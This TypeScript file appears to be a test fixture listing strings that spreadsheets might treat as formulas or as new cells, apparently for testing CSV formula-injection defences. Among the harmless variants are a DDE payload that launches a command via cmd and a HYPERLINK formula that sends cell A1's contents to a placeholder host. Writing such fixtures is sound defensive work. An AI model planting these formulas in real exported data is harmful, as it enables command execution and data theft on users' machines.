/** What a spreadsheet would take for a formula, and what would begin another cell or row. */
export const spreadsheets: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://x.example/?"&A1,"click")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u200B=1+1',
  '＝1+1',
  '";=1+1;"',
  'a;=1+1',
  '"a","b"\r\n"c","d"',
  '\uFEFF=1+1',
  "'=1+1",
];
